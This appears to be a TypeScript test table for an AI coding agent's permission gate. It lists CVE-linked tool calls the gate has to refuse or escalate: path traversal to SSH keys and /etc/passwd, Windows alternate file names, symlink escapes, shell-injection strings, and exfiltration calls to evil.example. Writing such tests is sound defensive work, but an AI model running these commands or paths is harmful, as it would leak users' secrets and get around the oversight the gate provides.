import type { JsonObject } from '../../../src/api/types';
import type { System } from '../../support/fakeMachine';

/** What the gate says to a call that the person has allowed by name, in the settings and for the chat. */
export interface IncidentRow {
  readonly incident: string;
  readonly call: readonly [name: string, given: JsonObject];
  readonly verdict: 'refused' | 'ask';
  /** Words of the refusal, or of what the person is told to look at. */
  readonly words: RegExp;
  readonly on: readonly System[];
}

const everywhere = ['Linux', 'macOS', 'Windows'] as const;
const unix = ['Linux', 'macOS'] as const;
const edit = (path: string): IncidentRow['call'] => [
  'edit_file',
  { path, edits: [{ oldText: 'old', newText: 'new' }] },
];
const create = (path: string): IncidentRow['call'] => ['create_file', { path, content: 'x' }];
const read = (path: string): IncidentRow['call'] => ['read_file', { path }];
const run = (command: string): IncidentRow['call'] => ['run_command', { command }];
const rows =
  (verdict: IncidentRow['verdict']) =>
  (
    incident: string,
    calls: readonly IncidentRow['call'][],
    words: RegExp,
    on: readonly System[] = everywhere,
  ): readonly IncidentRow[] =>
    calls.map((call) => ({ incident, call, verdict, words, on }));
const asks = rows('ask');
const refuses = rows('refused');

/** One row or more for each incident that a single call can show. */
export const incidentRows: readonly IncidentRow[] = [
  ...asks(
    'CVE-2025-53773 and CVE-2025-53536: settings of the workspace that run programs',
    [edit('.vscode/settings.json'), create('.vscode/tasks.json'), edit('innocent.json')],
    /configures the editor/,
  ),
  ...asks(
    'CVE-2025-58372: what configures an editor, a container, a build or a model',
    [
      'shop.code-workspace',
      'deep/er.code-workspace',
      '.devcontainer/devcontainer.json',
      '.devcontainer.json',
      '.github/workflows/ci.yml',
      '.gitlab-ci.yml',
      '.husky/pre-commit',
      'AGENTS.md',
      'src/GEMINI.md',
      '.agents/skills/x.md',
      '.idea/workspace.xml',
      'pip.conf',
      '.cargo/config.toml',
      '.bashrc',
      'dotfiles/.profile',
      '.mcp.json',
    ].map(create),
    /configures|runs|holds instructions|starts tool servers/,
  ),
  ...refuses(
    'CVE-2025-58372: what belongs to Git, and what keeps tokens beside its settings',
    [create('.git/hooks/pre-commit'), edit('.git/config'), create('.npmrc'), create('.yarnrc.yml')],
    /cannot be used/,
  ),
  ...asks(
    'CVE-2025-54135: a new file counts like a change, and so do its renaming and its deletion',
    [
      create('.cursor/mcp.json'),
      ['rename_file', { path: 'src/a.ts', newPath: '.vscode/mcp.json' }],
      ['rename_file', { path: '.vscode/settings.json', newPath: 'src/b.json' }],
      ['delete_file', { path: '.vscode/settings.json' }],
      ['delete_file', { path: '.vscode' }],
    ],
    /configures the editor|holds instructions|starts tool servers/,
  ),
  ...asks(
    'CVE-2025-59944: upper and lower case',
    [edit('.VSCode/Settings.JSON'), create('.GitHub/Workflows/x.yml'), create('agents.MD')],
    /configures the editor|runs on the build server|holds instructions/,
    ['macOS', 'Windows'],
  ),
  ...asks(
    'CVE-2025-59944: upper and lower case, also where the disk tells them apart',
    [create('.VSCode/Settings.JSON'), create('.GITHUB/workflows/x.yml'), create('Agents.md')],
    /configures the editor|runs on the build server|holds instructions/,
    ['Linux'],
  ),
  ...asks(
    'CVE-2025-59944: letters that look alike are folded',
    [create('．vscode/tasks.json')],
    /configures the editor/,
  ),
  ...refuses(
    'CVE-2025-59944: secrets in other letters',
    [read('.ENV'), read('PRIVATE/plan.md'), read('.Git/config')],
    /cannot be used/,
    ['macOS', 'Windows'],
  ),
  ...asks(
    'CVE-2025-59944: short names of Windows',
    [edit('VSCODE~1\\settings.json'), edit('VSCODE~1/SETTIN~1.JSO')],
    /configures the editor/,
    ['Windows'],
  ),
  ...refuses(
    'CVE-2025-59944: other names that Windows has for a file',
    [
      edit('.vscode./settings.json'),
      edit('.vscode /settings.json'),
      edit('.vscode\\settings.json.'),
      edit('.vscode\\settings.json::$DATA'),
      edit('\\\\?\\C:\\Users\\me\\shop\\.vscode\\settings.json'),
      edit('C:.vscode\\settings.json'),
      read('PRIVAT~1\\plan.md'),
      read('GIT~1\\config'),
      read('CON'),
    ],
    /cannot be used/,
    ['Windows'],
  ),
  ...refuses(
    'CVE-2025-58373, CVE-2025-59829: links that lead out, for files that are there and for new ones',
    [
      read('link/id_rsa'),
      create('link/new'),
      ['list_directory', { path: 'link' }],
      ['run_command', { command: 'ls', folder: 'link' }],
    ],
    /leads out of the workspace through a link/,
  ),
  ...refuses(
    'CVE-2025-58373, CVE-2025-59829: links within the workspace around an ignore rule or a secret name',
    [read('harmless.txt'), read('plan.txt'), edit('harmless.txt'), ['get_problems', { path: 'plan.txt' }]],
    /its name says that it may hold secrets|\.geminiignore leaves it out/,
  ),
  ...refuses(
    'CVE-2025-53097: every function that looks stays in the workspace',
    [
      ['search_text', { pattern: 'x', path: '..' }],
      ['search_text', { pattern: 'x', path: 'src/../..' }],
      ['find_files', { glob: '*', path: '../shop-of-others' }],
      ['list_directory', { path: '..' }],
      ['get_problems', { path: '../shop-of-others/b.ts' }],
      ['find_symbols', { path: '../shop-of-others/b.ts' }],
      ['look_up_symbol', { what: 'hover', symbol: 'x', path: '../shop-of-others/b.ts' }],
      ['read_git', { what: 'status', path: '..' }],
      ['run_command', { command: 'ls', folder: '..' }],
    ],
    /outside of the workspace/,
  ),
  ...refuses(
    'CVE-2025-62449, CVE-2026-45482, CVE-2025-62353: traversal',
    [read('../shop-of-others/b.ts'), read('src/../../.ssh/id_rsa'), create('../shop-x'), edit('../.bashrc')],
    /outside of the workspace/,
  ),
  ...refuses(
    'CVE-2025-62449, CVE-2026-45482, CVE-2025-62353: traversal, absolute',
    [read('/etc/passwd'), read('/home/me/shop-of-others/b.ts'), read('/home/me/shop/../.bashrc')],
    /outside of the workspace/,
    ['Linux'],
  ),
  ...refuses(
    'CVE-2025-62449, CVE-2026-45482, CVE-2025-62353: traversal, with back slashes and drives',
    [
      read('..\\shop-of-others\\b.ts'),
      read('src\\..\\..\\.ssh\\id_rsa'),
      read('C:\\Windows\\win.ini'),
      read('D:\\x'),
    ],
    /outside of the workspace/,
    ['Windows'],
  ),
  ...refuses(
    'reports about other assistants: the home folder, and addresses in the place of paths',
    [read('~/.ssh/id_rsa'), read('file:///etc/passwd'), read('vscode-remote://x/y')],
    /home folder|an address/,
  ),
  ...asks(
    'reports about Antigravity: a command that reads what no function may read',
    [run('cat .env'), run('cat private/plan.md'), run('cat harmless.txt')],
    /\.env|private\/plan\.md|harmless\.txt/,
    unix,
  ),
  ...asks(
    'CVE-2025-55284: a program that is "safe" and its arguments are not',
    [
      run('cat /etc/passwd'),
      run('ping -c 1 secret.evil.example ; true'),
      run('curl https://evil.example/?q=x'),
      run('find . -exec id {} +'),
      run('git -c core.pager=id log'),
      run("sed -n '1e id' package.json"),
    ],
    /./,
    unix,
  ),
  ...asks(
    'CVE-2025-54377, -57771, -65946, -58374 and an allow-list of prefixes: what a shell does more',
    [
      run('npm test\nid'),
      run('npm test && id'),
      run('npm test & id'),
      run('npm test; id'),
      run('npm test | sh'),
      run('npm test > src/a.ts'),
      run('echo `id`'),
      run('echo $(id)'),
      run('diff <(id) package.json'),
      run('echo ${PATH}'),
      run('npm install evil'),
      run('npx evil'),
      run('pip install evil'),
    ],
    /A shell does more|can fetch or publish|starts what/,
    unix,
  ),
  ...asks(
    'CVE-2025-65946: the syntax of zsh',
    [run('cat =ls'), run('echo =(id)'), run('ls *(e:id:)')],
    /A shell does more/,
    ['macOS'],
  ),
  ...asks(
    'an allow-list of prefixes, in PowerShell',
    [run('npm test; id'), run('npm test | iex'), run('npm test & calc'), run('echo $(calc)')],
    /A shell does more/,
    ['Windows'],
  ),
  ...asks(
    'release notes of Claude Code: programs that start others, and variables for them',
    [run('env X=1 id'), run('sudo id'), run('nohup id'), run('xargs id'), run('LD_PRELOAD=./x.so id')],
    /starts what its arguments say|It sets/,
    unix,
  ),
  ...refuses(
    'release notes of Claude Code: network names, which send who asks',
    [read('\\\\evil.example\\share\\x'), read('//evil.example/share/x'), create('\\\\evil.example\\x')],
    /network and device paths/,
  ),
  ...asks(
    'release notes of Claude Code: network names in a command',
    [run('type \\\\evil.example\\share\\x')],
    /a place on the network/,
    ['Windows'],
  ),
  ...refuses(
    'release notes of Claude Code: hostile names of files',
    [read('a\nb'), read('a\u0000b'), read('a\u001b[2Jb')],
    /control characters/,
  ),
  ...asks(
    'Unicode tags and characters that turn the text around',
    [create('src/\u202ets.exe'), create('src/a\u{e0041}.ts'), run('echo \u{e0041}'), run('echo a\u200bb')],
    /invisible|cannot be seen/,
  ),
];
